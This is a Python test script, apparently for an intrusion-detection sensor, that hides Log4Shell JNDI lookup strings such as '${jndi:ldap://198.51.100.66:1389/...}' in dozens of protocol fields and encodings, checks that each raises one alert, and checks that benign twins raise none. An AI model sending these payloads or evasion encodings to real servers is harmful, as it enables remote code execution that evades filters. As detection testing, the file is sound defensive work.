@@ -1,0 +1,306 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""places.py SENSOR: every place that a lookup hides in, one conversation each, and the alert that it must raise.
+
+Each row says what is sent, where the lookup must be found, and under which name; its benign twin sends the same with a
+text that only looks like a lookup. All attacks go into one capture and all twins into another; a third has the attacks
+in segments of three bytes. A row that raises no alert, two alerts, or one with another place, fails.
+"""
+import base64
+import gzip
+import json
+import pathlib
+import quopri
+import sys
+import tempfile
+import urllib.parse
+import zlib
+
+import sensor as lab
+import wires as w
+
+TABLE = []
+
+
+def place(row, location, name=None, twin=None):
+    """Registers a writer: it gets a capture and the text to hide. twin: the text of the benign one, when a place has no
+    room for the usual."""
+    def register(writer):
+        TABLE.append((row, writer, location, name, twin))
+        return writer
+    return register
+
+
+def tcp(row, location, port, said, name=None, twin=None):
+    """said(text) gives the bytes of the client, or what both sides say."""
+    def writer(capture, text):
+        what = said(text)
+        capture.tcp(port, [("c", what)] if isinstance(what, bytes) else what)
+    place(row, location, name, twin)(writer)
+
+
+def udp(row, location, port, said, name=None, twin=None):
+    def writer(capture, text):
+        what = said(text)
+        capture.udp(port, [("c", what)] if isinstance(what, bytes) else what)
+    place(row, location, name, twin)(writer)
+
+
+OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
+
+
+def http(row, location, request, name=None):
+    tcp(row, location, 8080, lambda text: [("c", request(text)), ("s", OK)], name)
+
+
+def body(content, kind=b"text/plain", head=b""):
+    return (b"POST /p HTTP/1.1\r\nHost: h.example\r\nContent-Type: " + kind + b"\r\n" + head + b"Content-Length: %d\r\n\r\n"
+            % len(content) + content)
+
+
+def header(name, value):
+    return b"GET / HTTP/1.1\r\nHost: h.example\r\n" + name + b": " + value + b"\r\n\r\n"
+
+
+def percent(text, times=1):
+    for _ in range(times):
+        text = "".join("%%%02X" % c for c in text).encode()
+    return text
+
+
+def chunked(*parts):
+    return b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in parts) + b"0\r\n"
+
+
+CHUNKED_HEAD = b"POST /p HTTP/1.1\r\nHost: h.example\r\nTransfer-Encoding: chunked\r\n"
+
+# --- HTTP/1 ---------------------------------------------------------------------------------------------------------
+
+http("a1 path", "http.uri", lambda t: b"GET /" + t + b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
+http("a2 query, braces only", "http.uri", lambda t: b"GET /?q=" + t.replace(b"${", b"%24%7B").replace(b"}", b"%7D") +
+     b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
+http("a3 query, form", "http.uri", lambda t: b"GET /?q=" + urllib.parse.quote_plus(t).encode() + b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
+http("a4 every byte", "http.uri", lambda t: b"GET /?q=" + percent(t) + b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
+http("a5 three times", "http.uri", lambda t: b"GET /?q=" + percent(t, 3) + b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
+http("a6 %u", "http.uri", lambda t: b"GET /?q=" + "".join("%%u%04x" % c for c in t).encode() + b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
+for header_name in (b"User-Agent", b"Referer", b"X-Forwarded-For", b"X-Api-Version", b"Cookie", b"Accept-Language",
+                    b"Content-Type", b"If-Modified-Since", b"Origin", b"X-Real-IP"):
+    http("a7 " + header_name.decode(), "http.request_header", lambda t, n=header_name: header(n, t), header_name.decode())
+http("a7 bearer", "http.request_header", lambda t: header(b"Authorization", b"Bearer " + t), "Authorization")
+http("a7 host", "http.request_header", lambda t: b"GET / HTTP/1.1\r\nHost: " + t + b"\r\n\r\n", "Host")
+http("a8 header name", "http.request_header", lambda t: header(t, b"x"))
+http("a9 encoded header", "http.request_header", lambda t: header(b"X-Id", percent(t)), "X-Id")
+http("a10 folded", "http.request_header", lambda t: header(b"X-Id", b"begin\r\n " + t), "X-Id")
+http("a11 basic", "http.request_header", lambda t: header(b"Authorization", b"Basic " + base64.b64encode(t + b":pw")), "Authorization")
+http("a12 cookie in base64", "http.request_header", lambda t: header(b"Cookie", b"s=" + base64.b64encode(t)), "Cookie")
+http("a12 token", "http.request_header", lambda t: header(b"Authorization", b"Bearer eyJhbGciOiJub25lIn0." + base64.urlsafe_b64encode(
+    b'{"sub":"' + t + b'"}').rstrip(b"=") + b"."), "Authorization")
+http("a13 method", "http.method", lambda t: t + b" / HTTP/1.1\r\nHost: h.example\r\n\r\n")
+http("a14 raw body", "http.request_body", lambda t: body(t))
+http("a14 CDATA", "http.request_body", lambda t: body(b"<a><![CDATA[" + t + b"]]></a>", b"text/xml"))
+http("a14 multipart", "http.request_body", lambda t: body(b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + t + b"\r\n--b--\r\n",
+                                                          b"multipart/form-data; boundary=b"))
+http("a14 filename", "http.request_body", lambda t: body(b'--b\r\nContent-Disposition: form-data; name="a"; filename="' + t +
+                                                         b'"\r\n\r\nx\r\n--b--\r\n', b"multipart/form-data; boundary=b"))
+http("a15 form", "http.request_body", lambda t: body(b"a=1&b=" + urllib.parse.quote_plus(t).encode(), b"application/x-www-form-urlencoded"))
+http("a16 form, every byte", "http.request_body", lambda t: body(b"b=" + percent(t), b"application/x-www-form-urlencoded"))
+http("a17 JSON \\u", "http.request_body", lambda t: body(b'{"a":"' + "".join("\\u%04x" % c for c in t).encode() + b'"}', b"application/json"))
+http("a18 JSON \\/", "http.request_body", lambda t: body(b'{"a":"' + t.replace(b"/", b"\\/") + b'"}', b"application/json"))
+http("a19 XML", "http.request_body", lambda t: body(b"<a>" + "".join("&#x%x;" % c for c in t).encode() + b"</a>", b"text/xml"))
+http("a20 base64", "http.request_body", lambda t: body(base64.b64encode(t), b"text/plain"))
+http("a21 UTF-16LE", "http.request_body", lambda t: body(t.decode().encode("utf-16-le")))
+http("a21 UTF-16BE", "http.request_body", lambda t: body(t.decode().encode("utf-16-be")))
+http("a22 over chunks", "http.request_body", lambda t: CHUNKED_HEAD + b"\r\n" + chunked(t[:9], t[9:20], t[20:]) + b"\r\n")
+http("a23 trailer", "http.request_header", lambda t: CHUNKED_HEAD + b"\r\n" + chunked(b"x") + b"X-Sum: " + t + b"\r\n\r\n", "X-Sum")
+http("a24 gzip", "http.request_body", lambda t: body(gzip.compress(t), head=b"Content-Encoding: gzip\r\n"))
+http("a24 zlib", "http.request_body", lambda t: body(zlib.compress(t), head=b"Content-Encoding: deflate\r\n"))
+http("a24 raw deflate", "http.request_body", lambda t: body(zlib.compress(t)[2:-4], head=b"Content-Encoding: deflate\r\n"))
+http("a24 gzip in chunks", "http.request_body", lambda t: CHUNKED_HEAD + b"Content-Encoding: gzip\r\n\r\n" + chunked(
+    gzip.compress(t)[:15], gzip.compress(t)[15:]) + b"\r\n")
+http("a26 gzip twice", "http.request_body", lambda t: body(gzip.compress(gzip.compress(t)), head=b"Content-Encoding: gzip, gzip\r\n"))
+http("a27 far behind", "http.request_body", lambda t: body(b"a line of text\n" * 11000 + t))
+http("a28 third of a pipeline", "http.request_header", lambda t: header(b"A", b"1") + header(b"A", b"2") + header(b"A", t), "A")
+http("a28 line feeds only", "http.request_header", lambda t: b"GET / HTTP/1.1\nHost: h.example\nX-Id: " + t + b"\n\n", "X-Id")
+http("a28 proxy", "http.uri", lambda t: b"GET http://h.example/" + t + b" HTTP/1.1\r\nHost: h.example\r\n\r\n")
+tcp("a29 response header", "http.response_header", 80, lambda t: [("c", header(b"A", b"1")), (
+    "s", b"HTTP/1.1 200 OK\r\nX-Echo: " + t + b"\r\nContent-Length: 0\r\n\r\n")], "X-Echo")
+tcp("a29 response body", "http.response_body", 80, lambda t: [("c", header(b"A", b"1")), (
+    "s", b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(t) + t)])
+
+# --- LDAP, DNS ------------------------------------------------------------------------------------------------------
+
+tcp("a35 bind DN", "ldap.bind_dn", 389, lambda t: w.ldap_bind(b"cn=" + t))
+tcp("a35 bind DN, escaped", "ldap.bind_dn", 389, lambda t: w.ldap_bind(b"cn=" + "".join("\\%02x" % c for c in t).encode()))
+tcp("a35 password", "ldap.bind_password", 389, lambda t: w.ldap_bind(b"cn=a", t))
+tcp("a35 search base", "ldap.search_base", 3890, lambda t: w.ldap_search(b"cn=" + t, b"x"))
+tcp("a35 filter value", "ldap.search_filter", 389, lambda t: w.ldap_bind(b"cn=a") + w.ldap_search(b"dc=a", t))
+TWIN_NAME = b"jndi-ldap.example"
+udp("a36 name, split at its dots", "dns.rrname", 53, w.dns_query, twin=TWIN_NAME)
+udp("a36 name, any port", "dns.rrname", 5300, lambda t: w.dns_query(b"x." + t + b".example.com", 28), twin=TWIN_NAME)
+tcp("a36 name over TCP", "dns.rrname", 53, lambda t: w.sized(2, w.dns_query(t)), twin=TWIN_NAME)
+udp("a36 multicast", "dns.rrname", 5353, lambda t: w.dns_query(t + b".local", 12, b"\0\0\0\0"), twin=b"My Printer._ipp._tcp")
+udp("a36 link-local", "dns.rrname", 5355, w.dns_query, twin=b"WORKSTATION7")
+udp("a36 TXT answer", "dns.rdata", 53, lambda t: [("c", w.dns_query(b"a.example", 16)), (
+    "s", w.dns_answer(b"a.example", 16, w.txt(t[:12], t[12:])))])
+udp("a36 CNAME answer", "dns.rdata", 53, lambda t: [("c", w.dns_query(b"a.example", 5)), (
+    "s", w.dns_answer(b"a.example", 5, w.labels(t)))], twin=TWIN_NAME)
+
+# --- Mail -----------------------------------------------------------------------------------------------------------
+
+GREETING = ("s", b"220 mx.example ESMTP\r\n")
+
+
+def smtp(row, location, said, name=None):
+    tcp(row, location, 25, lambda t: [GREETING, ("c", said(t)), ("s", b"250 fine\r\n")], name)
+
+
+def mail(message, helo=b"h.example"):
+    return (b"EHLO " + helo + b"\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\n" + message + b"\r\n.\r\nQUIT\r\n")
+
+
+def word(text, coding):
+    if coding == b"B":
+        return b"=?utf-8?B?" + base64.b64encode(text) + b"?="
+    return b"=?utf-8?Q?" + "".join("=%02X" % c for c in text).encode() + b"?="
+
+
+smtp("a37 EHLO", "smtp.helo", lambda t: mail(b"Subject: a\r\n\r\nb", t))
+smtp("a37 MAIL FROM", "smtp.mail_from", lambda t: b"EHLO h\r\nMAIL FROM:<" + t + b">\r\n")
+smtp("a37 RCPT TO", "smtp.rcpt_to", lambda t: b"EHLO h\r\nMAIL FROM:<a@b>\r\nRCPT TO:<" + t + b">\r\n")
+smtp("a37 another command", "smtp.command", lambda t: b"HELO h\r\nVRFY " + t + b"\r\n")
+smtp("a37 header", "email.header", lambda t: mail(b"Subject: " + t + b"\r\n\r\nb"), "Subject")
+smtp("a37 body", "email.body", lambda t: mail(b"Subject: a\r\n\r\nHi,\r\n.." + t))
+smtp("a37 body by BDAT", "email.body", lambda t: b"EHLO h\r\nMAIL FROM:<a@b>\r\nBDAT 19\r\nSubject: a\r\n\r\nbegin" +
+     b"BDAT %d LAST\r\n" % len(t) + t + b"QUIT\r\n")
+smtp("a38 words split in two", "email.header", lambda t: mail(b"Subject: " + word(t[:11], b"B") + b"\r\n " + word(t[11:], b"Q") +
+                                                              b"\r\n\r\nb"), "Subject")
+smtp("a38 base64 part", "email.body", lambda t: mail(
+    b"Content-Type: multipart/mixed;\r\n boundary=\"=_b\"\r\n\r\n--=_b\r\n\r\nplain\r\n--=_b\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
+    base64.encodebytes(b"." * 40 + t).replace(b"\n", b"\r\n") + b"--=_b--\r\n"))
+smtp("a38 quoted-printable", "email.body", lambda t: mail(
+    b"Content-Transfer-Encoding: quoted-printable\r\n\r\n" + quopri.encodestring(b"e=" + t[:16]) + b"=\r\n" + t[16:]))
+smtp("a38 AUTH PLAIN", "smtp.auth", lambda t: b"EHLO h\r\nAUTH PLAIN " + base64.b64encode(b"\0" + t + b"\0pw") + b"\r\n")
+smtp("a38 AUTH LOGIN", "smtp.auth", lambda t: b"EHLO h\r\nAUTH LOGIN\r\n" + base64.b64encode(t) + b"\r\ncHc=\r\nQUIT\r\n")
+
+# --- What the raw window reads ---------------------------------------------------------------------------------------
+
+tcp("a39 IMAP", "raw", 143, lambda t: [("s", b"* OK ready\r\n"), ("c", b"a1 LOGIN \"" + t + b"\" pw\r\n")])
+tcp("a39 POP3", "raw", 110, lambda t: [("s", b"+OK ready\r\n"), ("c", b"USER " + t + b"\r\n")])
+tcp("a39 FTP", "raw", 21, lambda t: [("s", b"220 (vsFTPd 3.0.3)\r\n"), ("c", b"USER " + t + b"\r\nPASS x\r\n")])
+tcp("a39 SSH", "raw", 22, lambda t: b"SSH-2.0-" + t + b"\r\n")
+tcp("a39 telnet", "raw", 23, lambda t: b"\xff\xfd\x03\xff\xfb\x18" + t + b"\r\n")
+tcp("a40 memcached", "raw", 11211, lambda t: b"set k 0 0 %d\r\n" % len(t) + t + b"\r\n")
+tcp("a40 Postgres", "raw", 5432, lambda t: w.sized(4, b"\0\3\0\0user\0" + t + b"\0\0"))
+tcp("a40 RDP cookie", "raw", 3389, lambda t: b"\3\0" + w.sized(2, b"\x2a\xe0\0\0\0\0\0Cookie: mstshash=" + t + b"\r\n"))
+udp("a40 SNMP", "raw", 161, lambda t: w.ber(0x30, w.ber(2, b"\1"), w.ber(4, t), w.ber(0xa0, w.ber(2, b"\1"))))
+udp("a40 RADIUS", "raw", 1812, lambda t: b"\1\7\0%c" % (22 + len(t)) + b"a" * 16 + b"\1%c" % (2 + len(t)) + t)
+udp("a40 DHCP", "raw", 67, lambda t: b"\1\1\6\0xid_" + bytes(228) + b"c\x82Sc" + b"\x0c%c" % len(t) + t + b"\xff")
+tcp("a40 RMI argument", "raw", 1099, lambda t: b"JRMI\0\2K\0\1h\0\0\0\0" + b"P\xac\xed\0\5\x77\x22" + bytes(34) + w.java_string(t))
+tcp("a40 Log4j JSON", "raw", 4560, lambda t: json.dumps({"level": "INFO", "message": t.decode()}).encode() + b"\n")
+tcp("a40 Log4j serialized", "raw", 4712, lambda t: b"\xac\xed\0\5sr\0>org.apache.logging.log4j.core.impl.Log4jLogEvent$LogEventProxy" +
+    bytes(12) + w.java_string(t))
+tcp("a44 answer of a server", "raw", 9999, lambda t: [("c", b"hello\n"), ("s", b"you said " + t + b"\n")])
+udp("a44 answer in a datagram", "raw", 9999, lambda t: [("c", b"hello"), ("s", b"you said " + t)])
+
+# --- Logs, messages, chats -------------------------------------------------------------------------------------------
+
+udp("a40 SIP", "sip.header", 5060, lambda t: b"INVITE sip:b@h.example SIP/2.0\r\nVia: SIP/2.0/UDP h\r\nUser-Agent: " + t +
+    b"\r\nContent-Length: 0\r\n\r\n", "User-Agent")
+tcp("a40 SIP, folded, over TCP", "sip.header", 5070, lambda t: b"REGISTER sip:h.example SIP/2.0\r\nl: 2\r\nSubject: x\r\n " + t + b"\r\n\r\nab",
+    "Subject")
+udp("a40 SIP URI", "sip.request_line", 5060, lambda t: b"INVITE sip:" + t + b"@h.example SIP/2.0\r\n\r\n")
+udp("a40 SIP body", "sip.body", 5060, lambda t: b"MESSAGE sip:b@h SIP/2.0\r\nContent-Length: %d\r\n\r\n" % len(t) + t)
+udp("a40 syslog", "syslog.message", 514, lambda t: b"<13>1 2026-01-05T10:00:00Z h app - - - " + t)
+tcp("a40 syslog, counted", "syslog.message", 601, lambda t: b"".join(b"%d %s" % (len(m), m) for m in (
+    b"<13>first ${unclosed", b"<13>h app: " + t, b"<14>last")))
+tcp("a40 syslog lines", "syslog.message", 514, lambda t: b"<13>first ${unclosed\n<13>h app: " + t + b"\n")
+tcp("a40 MQTT client", "mqtt.connect.clientid", 1883, lambda t: w.mqtt_connect(t))
+tcp("a40 MQTT user", "mqtt.connect.username", 1883, lambda t: w.mqtt_connect(b"c", t))
+tcp("a40 MQTT topic", "mqtt.publish.topic", 1884, lambda t: w.mqtt_connect(b"c") + w.mqtt(0x30, w.sized(2, t) + b"m"))
+tcp("a40 MQTT message", "mqtt.publish.message", 1883, lambda t: w.mqtt_connect(b"c") + w.mqtt(0x32, w.sized(2, b"t") + b"\0\1" + t))
+tcp("a40 Redis", "redis.argument", 6379, lambda t: w.resp(b"SET", b"k", b"${unclosed") + w.resp(b"SET", b"k", t))
+tcp("a40 Minecraft chat", "minecraft.packet", 25565, lambda t: w.minecraft_handshake(b"h") + w.minecraft(b"\5" + w.varint(len(t)) + t))
+tcp("a40 Minecraft chat, compressed", "minecraft.packet", 25565, lambda t: w.minecraft_handshake(b"h") + w.minecraft(
+    b"\5" + t, zlib.compress(b"\5" + t + b"." * 300)))
+tcp("a40 Minecraft chat, to the players", "minecraft.packet", 25565, lambda t: [
+    ("c", w.minecraft_handshake(b"h")), ("s", w.minecraft(b"\x64" + t, zlib.compress(b"\x64" + t)))])
+udp("a41 GELF, gzip", "gelf.message", 12201, lambda t: gzip.compress(json.dumps({"short_message": t.decode()}).encode()))
+udp("a41 GELF, zlib", "gelf.message", 12201, lambda t: zlib.compress(json.dumps({"short_message": t.decode()}).encode()))
+udp("a41 GELF, clear", "gelf.message", 12201, lambda t: json.dumps({"version": "1.1", "short_message": t.decode()}).encode())
+udp("a41 GELF, chunks out of order", "gelf.message", 12201, lambda t: [
+    ("c", c) for c in reversed(w.gelf_chunks(gzip.compress(json.dumps({"short_message": t.decode()}).encode()), 20))])
+tcp("a41 GELF over TCP", "raw", 12201, lambda t: b'{"short_message":"first"}\0{"short_message":"' + t.replace(b"$", b"\\u0024") + b'"}\0')
+
+# --- TLS ------------------------------------------------------------------------------------------------------------
+
+tcp("a42 SNI", "tls.sni", 443, lambda t: [("c", w.tls_hello(t)), ("s", w.tls_server_flight(w.x509(b"i", b"s", b"a.example"))), (
+    "c", w.TLS_CLIENT_END)])
+tcp("a42 ALPN", "tls.alpn", 443, lambda t: [("c", w.tls_hello(b"a.example", t))])
+for index, part in enumerate(("tls.issuerdn", "tls.subject", "tls.subjectaltname")):
+    tcp("a43 " + part, part, 8443, lambda t, i=index: [("c", w.tls_hello(b"a.example")), ("s", w.tls_server_flight(
+        w.x509(*[t if k == i else b"x" for k in range(3)]))), ("c", w.TLS_CLIENT_END)])
+smtp("a43 behind STARTTLS", "tls.sni", lambda t: b"EHLO h\r\nSTARTTLS\r\n" + w.tls_hello(t))
+
+# --- What no parser can read any more is raw ----------------------------------------------------------------------------
+
+tcp("nonsense behind LDAP", "raw", 389, lambda t: w.ldap_bind(b"cn=a") + b"\xff\xff" + t)
+tcp("nonsense behind DNS", "raw", 53, lambda t: w.sized(2, w.dns_query(b"a.example")) + b"\0\1" + t)
+tcp("nonsense behind MQTT", "raw", 1883, lambda t: w.mqtt_connect(b"c") + b"\0" + t)
+tcp("nonsense behind SIP", "raw", 5060, lambda t: b"OPTIONS sip:h SIP/2.0\r\n\r\n" + b"\1\2" + t + b"\r\n")
+tcp("nonsense behind Minecraft", "raw", 25565, lambda t: w.minecraft_handshake(b"h") + b"\xff\xff\xff\xff" + t)
+tcp("nonsense behind a TLS hello", "raw", 443, lambda t: w.tls_hello(b"a.example") + b"GET " + t)
+udp("nonsense in GELF", "raw", 12201, lambda t: b"\x78\x9c" + t)
+
+
+def text_of(number):
+    return b"${jndi:ldap://198.51.100.66:1389/p%d}" % number
+
+
+def twin_of(number):
+    return b"$(jndi-ldap://198.51.100.66:1389/p%d)" % number
+
+
+def written(folder, name, texts, segment=w.SEGMENT):
+    capture = w.Capture()
+    capture.segment = segment
+    for (_, writer, *_rest), text in zip(TABLE, texts):
+        writer(capture, text)
+    path = folder / name
+    capture.write(path)
+    return path
+
+
+def judged(found, strict):
+    """What is wrong with the alerts of the attacks, a line each."""
+    by_lookup = {}
+    for alert in found:
+        by_lookup.setdefault(lab.facts(alert).get("lookup"), []).append(alert)
+    for number, (row, _, location, name, _) in enumerate(TABLE):
+        mine = by_lookup.pop(text_of(number)[7:-1].decode(), [])
+        places = [(lab.facts(alert).get("location"), lab.facts(alert).get("name")) for alert in mine]
+        if len(mine) != 1:
+            yield "%s: %d alerts instead of one %s" % (row, len(mine), places)
+        elif strict and places[0] != (location, places[0][1] if name is None else name):
+            yield "%s: found in %s instead of %s %s" % (row, places[0], location, name or "")
+    for lookup, alerts in by_lookup.items():
+        yield "%d alerts that nobody expects: %s" % (len(alerts), lookup or [a["alert"]["signature_id"] for a in alerts])
+
+
+def main():
+    program, wrong = sys.argv[1], []
+    with tempfile.TemporaryDirectory() as folder:
+        folder = pathlib.Path(folder)
+        attacks = [text_of(number) for number in range(len(TABLE))]
+        twins = [row[4] or twin_of(number) for number, row in enumerate(TABLE)]
+        for name, segment in (("whole.pcap", w.SEGMENT), ("pieces.pcap", 3)):
+            found = lab.alerts(lab.replay(program, written(folder, name, attacks, segment)))
+            wrong += ["%s: %s" % (name, line) for line in judged(found, segment > 3)]
+        for alert in lab.alerts(lab.replay(program, written(folder, "twins.pcap", twins))):
+            wrong.append("a twin raises %d: %s" % (alert["alert"]["signature_id"], lab.facts(alert)))
+    if wrong:
+        sys.exit("\n".join(wrong))
+    print("%d places, each with one alert; their twins without" % len(TABLE))
+
+
+if __name__ == "__main__":
+    main()
